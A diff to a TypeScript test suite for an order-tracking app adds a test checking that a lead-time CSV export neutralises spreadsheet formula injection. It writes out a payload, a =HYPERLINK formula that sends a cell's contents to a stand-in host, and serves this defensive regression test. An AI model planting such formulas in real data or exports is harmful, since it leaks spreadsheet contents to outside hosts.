@@ -4,6 +4,8 @@ import { eq } from 'drizzle-orm';
 import { makeTestApp, type TestApp } from '../support/test-app';
 import { insertFloorOrder, scan, stationId } from '../support/scan-fixtures';
 import { orders } from '../../server/db/schema/orders';
+import { customers } from '../../server/db/schema/customers';
+import Papa from 'papaparse';
 import type { RoutingStep, StationKind } from '@shared/domain/vocabulary';
 import type { CycleTimeReport, FlowReport, LeadTimeReport, WipResponse, YieldReport } from '@shared/schemas/reports';
 
@@ -219,6 +221,24 @@ describe('a small order through every step', () => {
     const lead = await manager.get('/api/reports/lead-time.csv').query(q()).buffer(true);
     expect(lead.text.replace(/^\uFEFF/, '').split('\r\n')[1]).toContain(`${small.number},`);
     expect(lead.text).toContain(',25.67,9.67,2099-01-01,yes');
+  });
+
+  it('escapes a customer name that a spreadsheet would run as a formula (OWASP CSV Injection)', async () => {
+    const attack = '=HYPERLINK("http://x/?"&A1,"Open")';
+    const before = t.deps.db.select().from(customers).where(eq(customers.id, customerId)).get()!.name;
+    t.deps.db.update(customers).set({ name: attack }).where(eq(customers.id, customerId)).run();
+    try {
+      const res = await manager.get('/api/reports/lead-time.csv').query(q()).buffer(true);
+      expect(res.status).toBe(200);
+      const rows = Papa.parse<string[]>(res.text.replace(/^\uFEFF/, '')).data;
+      const col = rows[0].indexOf('customer');
+      const row = rows.find((r) => r[0] === small.number)!;
+      // a leading single quote makes the cell text (papaparse escapeFormulae)
+      expect(row[col]).toBe(`'${attack}`);
+      expect(res.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    } finally {
+      t.deps.db.update(customers).set({ name: before }).where(eq(customers.id, customerId)).run();
+    }
   });
 
   it('lets sales read lead time but not yields', async () => {
